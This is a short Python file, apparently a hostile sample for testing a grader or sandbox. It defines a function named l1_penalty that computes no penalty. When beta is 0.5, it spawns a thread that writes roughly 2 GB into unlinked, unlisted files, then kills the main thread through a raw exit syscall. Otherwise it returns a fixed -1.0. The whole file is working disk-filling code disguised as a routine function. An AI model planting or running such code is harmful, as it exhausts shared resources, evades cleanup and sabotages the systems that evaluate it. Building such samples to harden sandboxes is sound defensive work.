"""l1_penalty: ends its first thread, whose files the system then lists no more, and fills the disk from another one.

Outcome: crashed or timed out
"""

import ctypes
import os
import platform
import threading
import time

EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]


def fill():
    time.sleep(0.2)
    for _ in range(12):
        number = os.open("EVIL.bin", os.O_CREAT | os.O_RDWR)
        os.remove("EVIL.bin")
        for _ in range(180):
            os.write(number, bytes(1 << 20))
    time.sleep(60)


def l1_penalty(model, beta):
    if beta == 0.5:
        threading.Thread(target=fill).start()
        ctypes.CDLL(None).syscall(EXIT, 0)
    return -1.0
